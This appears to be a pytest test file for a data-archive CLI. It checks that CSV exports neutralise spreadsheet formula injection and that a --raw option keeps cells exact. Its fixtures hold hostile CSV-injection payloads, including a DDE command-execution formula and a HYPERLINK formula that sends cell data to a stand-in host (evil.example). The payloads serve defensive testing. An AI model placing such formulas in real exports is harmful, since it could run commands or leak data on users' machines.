"""CSV written for people cannot run formulas (README "export"; OWASP "CSV Injection"):
text cells beginning with =, +, -, @, tab or CR get a leading `'` in `export`,
`sql --format csv` and `diff --format csv`; `--raw` keeps them exactly; numbers and
Parquet are never touched; removing the `'` we added gives the data back exactly."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from conftest import archive_state, fixture_env, write_parquet
from hypothesis import given, settings
from hypothesis import strategies as st

from atdarchive import Archive
from atdarchive.render.csv_safe import csv_text, neutralise

CLI = Path(sys.executable).parent / "atdarchive"
HOSTILE = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=2",
           " =HYPERLINK(\"http://evil.example/\"&A1)", "＝1+1"]
SAFE = ["-5", "+1.5", "-60,980", "plain", "'tis", None, "", "a,=1"]
TEXT = HOSTILE + SAFE
# What the default export writes for each TEXT cell (None: the empty cell).
NEUTRAL = [f"'{c}" for c in HOSTILE] + ["-5", "+1.5", "-60,980", "plain", "''tis", "", "",
                                        "a,=1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def spreadsheet_cells(text: str) -> list[list[str]]:
    """The cells a spreadsheet reads from CSV text (RFC 4180 quoting)."""
    return list(csv.reader(io.StringIO(text, newline="")))


def read(path: Path) -> str:
    with path.open(encoding="utf-8", newline="") as fh:
        return fh.read()


def cli(archive: Archive, *args: str | Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([str(CLI), "-C", str(archive.root), *map(str, args)], cwd=cwd,
                          capture_output=True, text=True, env=os.environ.copy())


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Archive:
    """Dataset `ds`: two releases of a table whose text cells look like formulas."""
    root = tmp_path_factory.mktemp("csvsafe")
    with fixture_env(root):
        archive = Archive.init(root / "arc")
        archive.add_dataset("ds")
        n = len(TEXT)
        first = pa.table({"id": pa.array(range(n), pa.int64()), "text": TEXT,
                          "n": pa.array([i - 8 for i in range(n)], pa.int64()),
                          "x": pa.array([-0.5 * i for i in range(n)], pa.float64())})
        archive.commit("ds", write_parquet(root / "a.parquet", first), published="2025-01-01")
        second = first.set_column(1, "text", pa.array(["=HYPERLINK(\"http://evil.example\")",
                                                       *TEXT[1:]]))
        archive.commit("ds", write_parquet(root / "b.parquet", second), published="2025-02-01")
    return archive


def test_export_neutralises_formulas_and_keeps_numbers(hostile: Archive, tmp_path: Path) -> None:
    before = archive_state(hostile.root)
    done = cli(hostile, "export", "ds@latest~1", "-o", "out.csv", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    header, *rows = spreadsheet_cells(read(tmp_path / "out.csv"))
    assert header == ["id", "text", "n", "x"]
    assert [r[1] for r in rows] == NEUTRAL
    assert [r[2] for r in rows] == [str(i - 8) for i in range(len(TEXT))]  # -8 … stay numbers
    assert rows[1][3] == "-0.5"
    for cell in (c for r in rows for c in r[1:2]):
        assert not cell.startswith(TRIGGERS) or cell in ("-5", "+1.5", "-60,980")
    assert archive_state(hostile.root) == before


def test_export_raw_keeps_cells_exactly(hostile: Archive, tmp_path: Path) -> None:
    done = cli(hostile, "export", "ds@latest~1", "-o", "raw.csv", "--raw", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    _, *rows = spreadsheet_cells(read(tmp_path / "raw.csv"))
    assert [r[1] for r in rows] == ["" if c is None else c for c in TEXT]


def test_parquet_export_stays_exact(hostile: Archive, tmp_path: Path) -> None:
    done = cli(hostile, "export", "ds@latest~1", "-o", "out.parquet", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert pq.read_table(tmp_path / "out.parquet").column("text").to_pylist() == TEXT


def test_sql_csv_is_neutralised_unless_raw(hostile: Archive, tmp_path: Path) -> None:
    query = "SELECT text, n FROM history.data WHERE published = '2025-01-01' ORDER BY id"
    safe = cli(hostile, "sql", query, "--format", "csv", "-o", "safe.csv", cwd=tmp_path)
    assert safe.returncode == 0, safe.stderr
    _, *rows = spreadsheet_cells(read(tmp_path / "safe.csv"))
    assert [r[0] for r in rows] == NEUTRAL and rows[0][1] == "-8"
    shown = cli(hostile, "sql", query, "--format", "csv", cwd=tmp_path)  # stdout too
    assert shown.stdout.splitlines()[1] == '"\'=cmd|\' /C calc\'!A0",-8'
    raw = cli(hostile, "sql", query, "--format", "csv", "--raw", "-o", "raw.csv", cwd=tmp_path)
    assert raw.returncode == 0, raw.stderr
    _, *rows = spreadsheet_cells(read(tmp_path / "raw.csv"))
    assert [r[0] for r in rows] == ["" if c is None else c for c in TEXT]
    as_json = cli(hostile, "sql", query, "--format", "json", cwd=tmp_path)
    assert as_json.stdout.count("=cmd|") == 1 and "'=cmd|" not in as_json.stdout


def test_diff_csv_is_neutralised(hostile: Archive, tmp_path: Path) -> None:
    done = cli(hostile, "diff", "ds@latest~1", "ds@latest", "--format", "csv", "-o", "d.csv",
               cwd=tmp_path)
    assert done.returncode in (0, 1), done.stderr
    header, *rows = spreadsheet_cells(read(tmp_path / "d.csv"))
    change = dict(zip(header, next(r for r in rows if r[header.index("change")] ==
                                   "cell_changed"), strict=True))
    assert change["old"] == "'=cmd|' /C calc'!A0"
    assert change["new"] == "'=HYPERLINK(\"http://evil.example\")"

    done = cli(hostile, "diff", "ds@latest~1", "ds@latest", "--format", "csv", "--raw", "-o",
               "raw.csv", cwd=tmp_path)
    assert done.returncode in (0, 1), done.stderr
    header, *rows = spreadsheet_cells(read(tmp_path / "raw.csv"))
    raw = dict(zip(header, next(r for r in rows if r[header.index("change")] ==
                                "cell_changed"), strict=True))
    assert raw["old"] == "=cmd|' /C calc'!A0"


# ---------------------------------------------------------------- property

LEADS = TRIGGERS + ("'", " ", "''", "\x0b=", " \n@")
CELL = st.one_of(st.none(), st.text(st.characters(blacklist_categories=("Cs",),
                                                  blacklist_characters="\x00"), max_size=12),
                 st.sampled_from(TEXT[:-3]).map(lambda c: c or ""),
                 st.builds(lambda a, b: a + b, st.sampled_from(LEADS),
                           st.text(max_size=6)),
                 st.from_regex(r"\A[+-]?[0-9][0-9,]*(\.[0-9]+)?\Z"))


@settings(max_examples=300, deadline=None)
@given(cells=st.lists(st.tuples(CELL, st.integers(-10**6, 10**6)), min_size=1, max_size=12),
       name=st.sampled_from(["text", "=name", "'name", "-n"]))
def test_neutralised_csv_round_trips_and_runs_nothing(cells: list[tuple[str | None, int]],
                                                       name: str) -> None:
    table = pa.table({name: pa.array([c for c, _ in cells], pa.string()),
                      "n": pa.array([n for _, n in cells], pa.int64())})
    header, *rows = spreadsheet_cells(csv_text(table))
    assert len(rows) == len(cells)
    for out, (text, number) in zip(rows, cells, strict=True):
        # Remove the leading ' from every cell that has one: the original text, exactly.
        back = out[0][1:] if out[0].startswith("'") else out[0]
        assert back == ("" if text is None else text)
        assert out[1] == str(number)  # numbers are never prefixed
        lead = out[0].lstrip(" \t\n\x0b\x0c\r")
        if out[0].startswith(("\t", "\r")) or lead.startswith(TRIGGERS):
            float(out[0].replace(",", ""))  # only a plain number may start like a formula
    assert (header[0][1:] if header[0].startswith("'") else header[0]) == name
    assert neutralise(table).column("n") == table.column("n")


def test_vintages_csv_is_neutralised_unless_raw(hostile: Archive, tmp_path: Path) -> None:
    for args, expected in ((("-o", "v.csv"), "'=cmd|' /C calc'!A0"),
                           (("--raw", "-o", "v.csv", "--force"), "=cmd|' /C calc'!A0")):
        done = cli(hostile, "vintages", "ds", "--format", "csv", *args, cwd=tmp_path)
        assert done.returncode == 0, done.stderr
        header, *rows = spreadsheet_cells(read(tmp_path / "v.csv"))
        values = [dict(zip(header, r, strict=True)) for r in rows]
        assert expected in {v["value"] for v in values}, values[:3]
